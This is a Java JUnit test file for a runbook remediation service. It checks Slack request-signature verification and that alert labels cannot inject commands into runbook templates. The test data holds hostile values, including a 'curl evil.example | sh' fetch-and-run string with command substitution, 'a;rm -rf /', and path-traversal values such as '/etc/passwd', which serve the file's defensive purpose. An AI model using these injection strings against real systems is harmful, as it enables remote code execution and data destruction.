package dev.ghost.remediation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import dev.ghost.alerting.model.AlertData;
import dev.ghost.alerting.model.AlertState;
import dev.ghost.common.patch.ParsedPatch;
import dev.ghost.common.patch.PatchParser;
import dev.ghost.common.problem.InvalidRequestException;
import dev.ghost.remediation.runbook.Runbook;
import dev.ghost.remediation.runbook.RunbookParser;
import dev.ghost.remediation.runbook.RunbookTemplate;
import dev.ghost.remediation.slack.SlackSignatureVerifier;

/** The rules that keep a runbook from doing what an alert says instead of what its author wrote, and Slack's signing. */
class RunbookRulesTest {

    static final JsonMapper JSON = JsonMapper.builder().build();
    final RunbookParser parser = new RunbookParser(JSON);

    static AlertData alert(Map<String, String> labels) {
        Instant now = Instant.now();
        return new AlertData("0123456789abcdef", labels.getOrDefault("alertname", "InstanceDown"), labels, labels, AlertState.FIRING,
                now, now, null, now, now, Map.of("summary", "down"), List.of(), 1, List.of(), List.of(), 0, false, null, false);
    }

    @Test
    void slacksOwnExampleVerifies() {
        // the worked example of Slack's "Verifying requests from Slack" page
        String body = "token=xyzz0WbapA4vBCDEFasx0q6G&team_id=T1DC2JH3J&team_domain=testteamnow&channel_id=G8PSS9T3V&channel_name=foobar"
                + "&user_id=U2CERLKJA&user_name=roadrunner&command=%2Fwebhook-collect&text=&response_url=https%3A%2F%2Fhooks.slack.com%2F"
                + "commands%2FT1DC2JH3J%2F397700885554%2F96rGlfmibIGlgcZRskXaIFfN&trigger_id=398738663015.47445629121.803a0bc887a14d10d2c447fce8b6703c";
        String signature = "v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503";
        SlackSignatureVerifier verifier = new SlackSignatureVerifier("8f742231b10e8888abcd99yyyzzz85a5", Duration.ofMinutes(5));
        Instant then = Instant.ofEpochSecond(1531420618);
        verifier.verify("1531420618", signature, body.getBytes(), then.plusSeconds(299));
        assertThatThrownBy(() -> verifier.verify("1531420618", signature, body.getBytes(), then.plusSeconds(301)))
                .hasMessageContaining("more than 5 minutes");
        assertThatThrownBy(() -> verifier.verify("1531420618", signature, (body + "&x=1").getBytes(), then))
                .hasMessageContaining("does not match");
        assertThatThrownBy(() -> verifier.verify("1531420618", signature.replace("v0=", "v1="), body.getBytes(), then))
                .isInstanceOf(SlackSignatureVerifier.Refused.class);
        assertThatThrownBy(() -> verifier.verify(null, signature, body.getBytes(), then)).isInstanceOf(SlackSignatureVerifier.Refused.class);
        assertThatThrownBy(() -> new SlackSignatureVerifier("", Duration.ofMinutes(5)).verify("1531420618", signature, body.getBytes(), then))
                .isInstanceOf(SlackSignatureVerifier.Refused.class);
    }

    @Test
    void anAlertCannotMakeARunbookRunTextOfItsChoosing() {
        Runbook runbook = parser.parse("restart", JSON.readTree("""
                {"matchers": ["alertname=\\"InstanceDown\\""],
                 "parameters": {"service": {"label": "service", "pattern": ".{1,200}"}, "instance": {"label": "instance"}},
                 "patch": {"target": "default", "mutations": [{"path": "last.txt", "pattern": "svc=${service}", "replacement": "ok"}],
                           "validate": {"shell": ["echo restarting ${service} on ${instance}"]}}}
                """), "api", "test");
        // a label value outside the default safe alphabet: the runbook does not apply at all
        assertThat(runbook.matches(alert(Map.of("alertname", "InstanceDown", "service", "x", "instance", "a;rm -rf /")))).isFalse();
        // a parameter whose pattern lets anything through still lands as one inert shell word and a literal regex
        String evil = "x'; curl evil.example | sh; echo '$(id)`id`";
        Map<String, String> values = runbook.valuesOrFail(alert(Map.of("alertname", "InstanceDown", "service", evil, "instance", "host-1:80")));
        JsonNode patch = RunbookTemplate.render(runbook.patch(), values, "rb-test-1");
        String command = patch.path("validate").path("shell").path(0).stringValue();
        assertThat(command).isEqualTo("echo restarting " + RunbookTemplate.shellWord(evil) + " on 'host-1:80'");
        assertThat(command).startsWith("echo restarting 'x'\\''; curl");
        String regex = patch.path("mutations").path(0).path("pattern").stringValue();
        assertThat(java.util.regex.Pattern.compile(regex).matcher("svc=" + evil).matches()).isTrue();
        assertThat(com.google.re2j.Pattern.compile(regex).matcher("svc=" + evil).matches()).isTrue();
        ParsedPatch parsed = new PatchParser().parse(patch);
        assertThat(parsed.patch().id()).isEqualTo("rb-test-1");
        // one pass: a value that looks like a placeholder is not expanded again
        Map<String, String> sneaky = runbook.valuesOrFail(alert(Map.of("alertname", "InstanceDown", "service", "${instance}", "instance", "h")));
        assertThat(RunbookTemplate.render(runbook.patch(), sneaky, "rb-test-2").path("validate").path("shell").path(0).stringValue())
                .isEqualTo("echo restarting '${instance}' on 'h'");
    }

    @Test
    void everyViolationIsListedWithItsPointer() {
        assertThatThrownBy(() -> parser.parse("Bad Name", JSON.readTree("""
                {"matchers": ["alertname=~\\"(\\""], "parameters": {"who": {"label": "user", "value": "x"}},
                 "automatic": {"maxRunsPerHour": 0},
                 "patch": {"id": "mine", "target": "../etc", "mutations": [{"path": "/etc/passwd", "contents": "x"}],
                           "validate": {"shell": ["echo ${nobody}"]}}, "colour": "red"}
                """), "api", "test"))
                .isInstanceOfSatisfying(InvalidRequestException.class, e -> assertThat(e.violations()).extracting(v -> v.pointer())
                        .contains("/name", "/matchers/0", "/parameters/who", "/automatic/maxRunsPerHour", "/patch/id", "/patch/target",
                                "/patch/mutations/0/path", "/patch/validate/shell/0", "/colour"));
    }

    @Test
    void theShippedRunbooksAreValid() throws IOException {
        for (String name : List.of("revert-last-patch", "clear-build-caches")) {
            Path file = Path.of("runbooks", name + ".yml");
            Runbook runbook = parser.parse(name, parser.read(Files.readAllBytes(file)), "file:" + file.getFileName(), "test");
            assertThat(runbook.description()).isNotBlank();
        }
        Runbook revert = parser.parse("revert-last-patch", parser.read(Files.readAllBytes(Path.of("runbooks/revert-last-patch.yml"))),
                "file", "test");
        AlertData failing = alert(Map.of("alertname", "PatchFailing", "target", "web", "severity", "warning"));
        assertThat(revert.matches(failing)).isTrue();
        assertThat(RunbookTemplate.render(revert.patch(), revert.valuesOrFail(failing), "rb-x").path("target").stringValue()).isEqualTo("web");
        assertThat(revert.matches(alert(Map.of("alertname", "PatchFailing", "target", "web; reboot")))).isFalse();
    }
}
